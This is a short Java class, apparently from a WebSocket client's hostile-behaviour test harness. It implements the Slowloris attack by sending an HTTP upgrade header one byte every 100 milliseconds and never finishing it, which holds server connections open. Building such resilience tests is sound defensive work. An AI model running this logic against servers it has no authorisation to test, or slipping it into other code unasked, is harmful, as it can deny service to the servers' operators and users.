package io.oneport.client.hostile;

import io.oneport.client.net.Target;
import java.nio.charset.StandardCharsets;

/** Asks for an upgrade one byte at a time, and never comes to the head's end (the attack that is called Slowloris). */
final class Dribble extends HostileRawSocket {
    private static final long INTERVAL_NANOS = 100_000_000;

    private final byte[] head;
    private int sent;

    Dribble(HostileSockets group, Outcomes outcomes, int number) {
        super(group, outcomes, number);
        Target target = group.target();
        this.head = ("GET " + target.path() + " HTTP/1.1\r\nHost: " + target.authority()
                        + "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nX-More: a")
                .getBytes(StandardCharsets.US_ASCII);
    }

    @Override
    void misbehave() {
        sent = 0;
        repeat(INTERVAL_NANOS, this::sendByte);
    }

    /** Behind the head's last field comes its last letter, again and again. */
    private void sendByte() {
        wire.send(head, Math.min(sent, head.length - 1), 1);
        sent++;
    }
}
